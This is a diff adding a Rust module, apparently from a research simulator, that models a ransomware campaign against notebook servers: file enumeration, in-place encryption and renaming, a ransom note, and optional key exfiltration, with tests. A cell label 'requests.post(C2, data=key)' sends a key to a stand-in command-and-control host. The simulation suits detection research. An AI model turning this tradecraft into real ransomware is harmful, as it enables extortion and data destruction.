@@ -1,0 +1,206 @@
+//! Ransomware campaign: enumerate → encrypt-in-place → rename → ransom
+//! note, optionally exfiltrating the key. The paper's Fig. 3 maps this
+//! avenue to the "inaccessible or incorrect data" concern and the
+//! "irreproducible results" consequence.
+
+use crate::campaign::{Campaign, CampaignStep};
+use crate::AttackClass;
+use ja_kernelsim::actions::{Action, CellScript};
+use ja_kernelsim::server::NotebookServer;
+use ja_kernelsim::vfs::ContentKind;
+use ja_netsim::addr::HostAddr;
+use ja_netsim::time::Duration;
+
+/// Ransomware parameters.
+#[derive(Clone, Debug)]
+pub struct RansomwareParams {
+    /// Seconds between file encryptions (speed knob; low-and-slow raises
+    /// it).
+    pub per_file_secs: f64,
+    /// Fraction of the victim's files to encrypt (1.0 = everything).
+    pub coverage: f64,
+    /// Extension appended to encrypted files.
+    pub extension: String,
+    /// Exfiltrate the key to C2 before encrypting?
+    pub exfil_key: bool,
+    /// C2 host for key exfil.
+    pub c2: HostAddr,
+}
+
+impl Default for RansomwareParams {
+    fn default() -> Self {
+        RansomwareParams {
+            per_file_secs: 0.5,
+            coverage: 1.0,
+            extension: ".locked".into(),
+            exfil_key: true,
+            c2: HostAddr::external(13),
+        }
+    }
+}
+
+/// Build a ransomware campaign against `server` as `user` (the account
+/// the attacker controls — typically after takeover or via an exposed
+/// server). Needs the victim server to enumerate target files.
+pub fn campaign(
+    server_idx: usize,
+    user: &str,
+    server: &NotebookServer,
+    params: &RansomwareParams,
+) -> Campaign {
+    let home = format!("/home/{user}/");
+    let files = server.vfs.list(&home);
+    let take = ((files.len() as f64) * params.coverage).round() as usize;
+    let mut steps = Vec::new();
+    let mut t = Duration::ZERO;
+    if params.exfil_key {
+        steps.push(CampaignStep::Cell {
+            server: server_idx,
+            user: user.to_string(),
+            offset: t,
+            script: CellScript::new(
+                "requests.post(C2, data=key)",
+                vec![
+                    Action::Connect {
+                        dst: params.c2,
+                        dst_port: 443,
+                    },
+                    Action::SendBytes {
+                        bytes: 256,
+                        entropy_high: true,
+                    },
+                ],
+            ),
+        });
+        t = t + Duration::from_secs(1);
+    }
+    // Encrypt in batches of 8 files per cell — real lockers loop inside
+    // one process rather than one request per file.
+    for chunk in files.iter().take(take).collect::<Vec<_>>().chunks(8) {
+        let mut actions = Vec::with_capacity(chunk.len() * 3);
+        for path in chunk {
+            actions.push(Action::ReadFile {
+                path: (*path).clone(),
+            });
+            actions.push(Action::EncryptFile {
+                path: (*path).clone(),
+                key_seed: format!("ransom-key-{user}").into_bytes(),
+            });
+            actions.push(Action::RenameFile {
+                from: (*path).clone(),
+                to: format!("{}{}", path, params.extension),
+            });
+        }
+        steps.push(CampaignStep::Cell {
+            server: server_idx,
+            user: user.to_string(),
+            offset: t,
+            script: CellScript::new("for f in targets: lock(f)", actions),
+        });
+        t = t + Duration::from_secs_f64((params.per_file_secs * chunk.len() as f64).max(0.001));
+    }
+    // Ransom note.
+    steps.push(CampaignStep::Cell {
+        server: server_idx,
+        user: user.to_string(),
+        offset: t,
+        script: CellScript::new(
+            "open('README_RESTORE.txt','w').write(note)",
+            vec![Action::WriteFile {
+                path: format!("{home}README_RESTORE.txt"),
+                kind: ContentKind::Text,
+                size: 2048,
+            }],
+        ),
+    });
+    Campaign {
+        class: Some(AttackClass::Ransomware),
+        name: format!("ransomware-{user}-s{server_idx}"),
+        steps,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::campaign::execute;
+    use ja_kernelsim::deployment::{Deployment, DeploymentSpec};
+    use ja_netsim::time::SimTime;
+
+    #[test]
+    fn campaign_encrypts_and_renames_everything() {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(5));
+        let user = d.owner_of(0).to_string();
+        let before_files = d.servers[0].vfs.len();
+        let before_entropy = d.servers[0].home_entropy_profile(&user).shannon_bits();
+        let c = campaign(0, &user, &d.servers[0], &RansomwareParams::default());
+        assert!(c.is_attack());
+        let _out = execute(&mut d, &[(SimTime::from_secs(60), c)], 1);
+        // Same file count plus the note; all renamed with .locked.
+        assert_eq!(d.servers[0].vfs.len(), before_files + 1);
+        let locked = d.servers[0].vfs.list("/home/").iter().filter(|p| p.ends_with(".locked")).count();
+        assert_eq!(locked, before_files);
+        let after_entropy = d.servers[0].home_entropy_profile(&user).shannon_bits();
+        assert!(
+            after_entropy > before_entropy + 0.5,
+            "entropy {before_entropy} -> {after_entropy}"
+        );
+    }
+
+    #[test]
+    fn coverage_limits_damage() {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(5));
+        let user = d.owner_of(1).to_string();
+        let total = d.servers[1].vfs.len();
+        let params = RansomwareParams {
+            coverage: 0.25,
+            ..Default::default()
+        };
+        let c = campaign(1, &user, &d.servers[1], &params);
+        let _ = execute(&mut d, &[(SimTime::ZERO, c)], 1);
+        let locked = d.servers[1]
+            .vfs
+            .list("/home/")
+            .iter()
+            .filter(|p| p.ends_with(".locked"))
+            .count();
+        let expect = ((total as f64) * 0.25).round() as usize;
+        assert_eq!(locked, expect);
+    }
+
+    #[test]
+    fn key_exfil_produces_external_flow() {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(5));
+        let user = d.owner_of(0).to_string();
+        let params = RansomwareParams::default();
+        let c2 = params.c2;
+        let c = campaign(0, &user, &d.servers[0], &params);
+        let out = execute(&mut d, &[(SimTime::ZERO, c)], 1);
+        assert!(out
+            .trace
+            .flow_summaries()
+            .iter()
+            .any(|f| f.tuple.dst == c2));
+    }
+
+    #[test]
+    fn no_exfil_variant_stays_local() {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(5));
+        let user = d.owner_of(0).to_string();
+        let params = RansomwareParams {
+            exfil_key: false,
+            ..Default::default()
+        };
+        let c = campaign(0, &user, &d.servers[0], &params);
+        let out = execute(&mut d, &[(SimTime::ZERO, c)], 1);
+        // Only the WebSocket flow to the server itself; no perimeter-
+        // crossing data flows beyond it.
+        let ext = out
+            .trace
+            .flow_summaries()
+            .iter()
+            .filter(|f| !f.tuple.dst.is_internal())
+            .count();
+        assert_eq!(ext, 0);
+    }
+}
